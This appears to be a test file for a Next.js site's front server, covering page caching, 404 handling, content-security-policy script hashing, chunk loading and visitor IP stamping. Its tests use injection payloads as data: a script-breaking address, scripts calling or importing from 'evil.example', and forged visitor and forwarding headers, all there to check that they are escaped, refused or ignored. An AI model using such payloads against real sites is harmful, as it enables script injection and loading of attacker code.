import { createServer, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { visitorHeader } from '../../lib/contract/visitor-header';
import { keepAskedAddress } from './asked-address.mjs';
import { finishPages } from './finish-pages.mjs';
import { microCache } from './micro-cache.mjs';
import { paintFirst, starter } from './paint-first.mjs';
import { readableAddress } from './readable-address.mjs';
import { scriptHashes } from './script-hashes.mjs';
import { visitorHeader as visitorHeaderOfFront, visitorStamp } from './visitor.mjs';
import { wholeNotFound } from './whole-not-found.mjs';

let server: Server | null = null;
afterEach(() => new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve())));

async function serve(listener: (port: () => number) => RequestListener): Promise<string> {
  let port = 0;
  server = createServer(listener(() => port));
  await new Promise<void>((resolve) => server?.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  return `http://127.0.0.1:${port}`;
}

describe('the two-second cache of pages', () => {
  let answered = 0;
  let clock = 0;
  const serveCached = (cacheControl: string) => {
    answered = 0;
    clock = 0;
    const answerPage = microCache(() => clock);
    return serve(() => (request, response) => {
      if (answerPage(request, response)) return;
      answered += 1;
      response.setHeader('cache-control', cacheControl);
      response.setHeader('etag', '"one"');
      response.write(`page ${answered} `);
      response.end(request.url);
    });
  };
  const shared = () => serveCached('s-maxage=60');
  const get = async (url: string, headers: Record<string, string> = {}) => (await fetch(url, { headers })).text();

  it('sends the same bytes again, and asks anew when they are old', async () => {
    const origin = await shared();
    expect(await get(`${origin}/home`)).toBe('page 1 /home');
    expect(await get(`${origin}/home`, { cookie: 'cookie-choice=all' })).toBe('page 1 /home');
    expect(await get(`${origin}/listing`)).toBe('page 2 /listing');
    clock = 2_001;
    expect(await get(`${origin}/home`)).toBe('page 3 /home');
  });

  it('answers 304 to who has the page already', async () => {
    const origin = await shared();
    await get(`${origin}/home`);
    expect((await fetch(`${origin}/home`, { headers: { 'if-none-match': '"one"' } })).status).toBe(304);
    expect(answered).toBe(1);
  });

  it.each([
    ['cookie', 'lang=AE'],
    ['cookie', 'cookie-choice=all; account-draft=x'],
    ['rsc', '1'],
    ['authorization', 'x'],
  ])('leaves a request with %s %s to Next', async (name, value) => {
    const origin = await shared();
    await get(`${origin}/home`);
    await get(`${origin}/home`, { [name]: value });
    expect(answered).toBe(2);
  });

  it('shares pages with whoever is signed in, but not the login, which sends them on', async () => {
    const origin = await shared();
    const cookie = 'Bearer=x; session-hint=y; remembered-email=z';
    await get(`${origin}/home`);
    expect(await get(`${origin}/home`, { cookie })).toBe('page 1 /home');
    for (const path of ['/', '/ar', '/?x=1', '/login-register', '/ar/login-register/forgot']) {
      await get(origin + path);
      expect(await get(origin + path, { cookie })).not.toBe(await get(origin + path));
    }
  });

  it('keeps nothing that does not allow it', async () => {
    const origin = await serveCached('private, no-store');
    await get(`${origin}/home`);
    await get(`${origin}/home`);
    expect(answered).toBe(2);
  });
});

describe('a page that is missing', () => {
  const missing = () =>
    serve((port) => (request, response) => {
      if (request.url?.endsWith('/page-not-found') || request.url?.endsWith('/pagecontent/missing')) {
        response.setHeader('content-type', 'text/html');
        response.end(`whole ${request.url} <a href="/ar/page-not-found">`);
        return;
      }
      wholeNotFound(request, response, port());
      const isData = request.url?.startsWith('/data');
      response.statusCode = 404;
      response.setHeader('content-type', isData ? 'application/json' : 'text/html');
      response.write('empty');
      response.end();
    });

  it('is answered whole, with its status, in the language of its address', async () => {
    const origin = await missing();
    const english = await fetch(`${origin}/nothing`);
    expect(english.status).toBe(404);
    expect(await english.text()).toMatch('whole /page-not-found ');
    expect(await (await fetch(`${origin}/ar/nothing`)).text()).toMatch('whole /ar/page-not-found ');
    expect(await (await fetch(`${origin}/arrow`)).text()).toMatch('whole /page-not-found ');
  });

  it('leads to the same address in other languages', async () => {
    const origin = await missing();
    expect(await (await fetch(`${origin}/ar/no/thing?x=1`)).text()).toMatch('<a href="/ar/no/thing">');
    const html =
      '<a href="/page-not-found"><a href="/ar/page-not-found"><a href="/ar/form"><a href="/page-not-found/x">';
    expect(keepAskedAddress(html, { shown: '/page-not-found', asked: '/"><script>$1&' })).toBe(
      '<a href="/&#34;&#62;&#60;script&#62;$1&#38;"><a href="/ar/&#34;&#62;&#60;script&#62;$1&#38;"><a href="/ar/form"><a href="/page-not-found/x">',
    );
  });

  it('says in its own words that a managed page has no data', async () => {
    const origin = await missing();
    const english = await fetch(`${origin}/pagecontent/9`);
    expect(english.status).toBe(404);
    expect(await english.text()).toMatch('whole /pagecontent/missing ');
    expect(await (await fetch(`${origin}/ar/pagecontent/9`)).text()).toMatch('whole /ar/pagecontent/missing ');
  });

  it('leaves other kinds of answers alone', async () => {
    const origin = await missing();
    const data = await fetch(`${origin}/data`);
    expect(data.status).toBe(404);
    expect(await data.text()).toBe('empty');
  });
});

describe('a finished page', () => {
  const policy = "default-src 'self'; script-src 'self' 'unsafe-inline'; object-src 'none'";
  const next = '<script>self.__next_f.push([1,"data </p>"])</script>';
  const serveHtml = (html: string, type = 'text/html; charset=utf-8') =>
    serve(() => (request, response) => {
      finishPages(request, response);
      response.setHeader('content-security-policy', policy);
      if (request.headers['if-none-match']) {
        response.statusCode = 304;
        response.end();
        return;
      }
      response.writeHead(200, { 'content-type': type });
      response.flushHeaders();
      response.write(html.slice(0, 20));
      response.end(html.slice(20));
    });

  it.each(['br', 'gzip', 'identity'])('arrives whole by %s, its scripts allowed by hash alone', async (encoding) => {
    const html = `<p>Zoë</p>${next}<script src="/_next/a.js"></script>`;
    const response = await fetch(await serveHtml(html), { headers: { 'accept-encoding': encoding } });
    expect(await response.text()).toBe(html);
    expect(response.headers.get('content-encoding') ?? 'identity').toBe(encoding);
    expect(response.headers.get('vary')).toBe('accept-encoding');
    expect(response.headers.get('content-security-policy')).toMatch(
      /^default-src 'self'; script-src 'self' 'sha256-[\w+/]{43}='; object-src 'none'$/,
    );
  });

  it('is 410 when its job is over', async () => {
    const response = await fetch(await serveHtml('<meta name="http-status" content="410"/>'));
    expect(response.status).toBe(410);
  });

  it('keeps the browser from taking a policy without hashes for a page it has', async () => {
    const response = await fetch(await serveHtml('x'), { headers: { 'if-none-match': '"one"' } });
    expect(response.status).toBe(304);
    expect(response.headers.has('content-security-policy')).toBe(false);
  });

  it('leaves pictures as they are, and packs other text', async () => {
    expect((await fetch(await serveHtml('x'.repeat(99), 'image/png'))).headers.has('content-encoding')).toBe(false);
    await new Promise((resolve) => server?.close(resolve));
    expect((await fetch(await serveHtml('x'.repeat(99), 'application/rss+xml'))).headers.get('vary')).toBe(
      'accept-encoding',
    );
  });
});

describe('the scripts of a page', () => {
  it.each([
    'self.__next_f.push([1,"a"]);alert(1)',
    'self.__next_f.push([1,alert(1)])',
    '(self.__next_f=self.__next_f||[]).push([0]);fetch("//evil.example")',
    'alert(1)',
    'import("//evil.example/x.js")',
  ])("that are not Next's get no hash: %s", (script) => {
    expect(scriptHashes(`<script>${script}</script>`)).toEqual({ hashes: [], refused: [script] });
  });

  it.each([
    '(self.__next_f=self.__next_f||[]).push([0])',
    'self.__next_f.push([1,"$L1\\n"])',
    '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[1]});',
    'requestAnimationFrame(function(){$RT=performance.now()});',
  ])("that are Next's run by hash: %s", (script) => {
    expect(scriptHashes(`<script id="_R_">${script}</script>`)).toEqual({
      hashes: [expect.stringMatching(/^'sha256-.{43}='$/)],
      refused: [],
    });
  });

  it('that hold data for machines are none', () => {
    const html = '<script type="application/ld+json">{"a":1}</script><script src="/x.js" async=""></script>';
    expect(scriptHashes(html)).toEqual({ hashes: [], refused: [] });
  });
});

describe('the chunks of a page', () => {
  const chunk = (name: string, id = '') => `<script src="/_next/static/chunks/${name}.js"${id} async=""></script>`;
  const preload = '<link rel="preload" as="script" fetchPriority="low" href="/_next/static/chunks/a.js"/>';
  const data = '<script>self.__next_f.push([1,"\\u003c/body>"])</script>';

  it('start after the paint, each once, and all else stands as it stood', () => {
    const page = paintFirst(
      `<head>${preload}${chunk('b')}</head><body><p></body></p>${chunk('a', ' id="_R_"')}${data}</body></html>`,
    );
    const start = `<script data-chunks="/_next/static/chunks/b.js /_next/static/chunks/a.js">${starter}</script>`;
    expect(page).toBe(`<head></head><body><p></body></p>${data}${start}</body></html>`);
    expect(paintFirst(page)).toBe(page);
    expect(scriptHashes(page)).toEqual({ hashes: [expect.any(String), expect.any(String)], refused: [] });
  });

  it('are left alone where they cannot be told', () => {
    for (const html of [chunk('a'), '<body></body>', '<body><script src="/other.js" async=""></script></body>']) {
      expect(paintFirst(html)).toBe(html);
    }
  });
});

describe('who visits', () => {
  const stamped = async (settings: { key?: string; isBehindProxy: boolean }, headers: Record<string, string> = {}) => {
    const stamp = visitorStamp(settings);
    const origin = await serve(() => (request, response) => {
      stamp(request);
      response.end(String(request.headers[visitorHeader]));
    });
    return (await fetch(origin, { headers: { [visitorHeader]: 'forged 192.0.2.9', ...headers } })).text();
  };
  const forwarded = { 'x-forwarded-for': '192.0.2.1, 192.0.2.7' };

  it('has one header on both sides', () => expect(visitorHeaderOfFront).toBe(visitorHeader));

  it('is the peer, whatever it claims of itself', async () => {
    expect(await stamped({ key: 'key', isBehindProxy: false }, forwarded)).toBe('key 127.0.0.1');
  });

  it('is the last hop behind a proxy, if it is an address', async () => {
    expect(await stamped({ key: 'key', isBehindProxy: true }, forwarded)).toBe('key 192.0.2.7');
  });

  it.each(['', 'unknown', '192.0.2.1, x y'])('is the peer where the proxy says %p', async (hops) => {
    expect(await stamped({ key: 'key', isBehindProxy: true }, { 'x-forwarded-for': hops })).toBe('key 127.0.0.1');
  });

  it('is told to no API that shares no key', async () => {
    expect(await stamped({ isBehindProxy: true }, forwarded)).toBe('undefined');
  });
});

test('an address that decodes to nothing becomes one of no page, in its language', () => {
  for (const address of ['/%E0%A4%A', '/listing-details/%', '/a/%ff?x=1'])
    expect(readableAddress(address)).toBe('/unreadable');
  expect(readableAddress('/ar/%E0%A4%A')).toBe('/ar/unreadable');
  for (const address of ['/', '/listing?q=50%', '/%D8%B9%D8%B1', '/api/care/%zz'])
    expect(readableAddress(address)).toBe(address);
});
